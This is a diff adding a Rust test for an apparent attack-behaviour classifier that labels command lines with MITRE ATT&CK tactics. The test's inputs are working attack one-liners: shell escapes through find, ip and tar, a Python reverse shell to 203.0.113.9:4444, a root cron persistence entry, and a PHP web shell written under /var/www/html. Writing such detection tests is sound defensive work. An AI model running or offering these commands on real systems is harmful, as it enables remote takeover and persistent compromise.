@@ -234,3 +234,61 @@ fn a_download_run_by_a_shell_is_named_by_the_program_it_fetches() {
         "{t} ({technique})"
     );
 }
+
+#[test]
+fn a_shell_started_through_a_programs_arguments_is_execution() {
+    let name = |argv: &[&str]| {
+        let mut c = classifier();
+        let (f, p) = c.classify(&started(argv, 1_000_000_000));
+        let a = c.explain(&f, &p, 3);
+        (a.tactic, a.technique)
+    };
+    // `find` is file discovery and `ip` network discovery by themselves;
+    // here they are the vehicle for a shell.
+    for argv in [
+        &["find", ".", "-exec", "/bin/sh", "-p", ";", "-quit"][..],
+        &["ip", "netns", "exec", "foo", "/bin/sh"][..],
+        &[
+            "tar",
+            "-cf",
+            "/dev/null",
+            "/dev/null",
+            "--checkpoint=1",
+            "--checkpoint-action=exec=/bin/sh",
+        ][..],
+    ] {
+        assert_eq!(
+            name(argv),
+            ("execution".into(), "T1059.004".into()),
+            "{argv:?}"
+        );
+    }
+    // The program's own name is not a shell started through it.
+    let (t, technique) = name(&["/bin/sh", "-c", "uname -a; cat /etc/os-release"]);
+    assert_eq!(t, "discovery", "{technique}");
+    // A shell wired to a peer is still a command channel, and one written
+    // into a start-up location still persistence.
+    let (t, technique) = name(&[
+        "python3",
+        "-c",
+        "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
+    ]);
+    assert_eq!(t, "command-and-control", "{technique}");
+    let (t, technique) = name(&[
+        "sh",
+        "-c",
+        "echo '* * * * * root /bin/sh /opt/x' > /etc/cron.d/upd",
+    ]);
+    assert_eq!(t, "persistence", "{technique}");
+    // Code that will start a shell, written where a web server runs it,
+    // is a web shell installed (what the arguments name), not a shell run.
+    let (t, technique) = name(&[
+        "sh",
+        "-c",
+        "printf '<?php passthru(system($_REQUEST[1])); ?>' > /var/www/html/img/x.php",
+    ]);
+    assert_eq!(
+        (t.as_str(), technique.as_str()),
+        ("persistence", "T1505.003")
+    );
+}
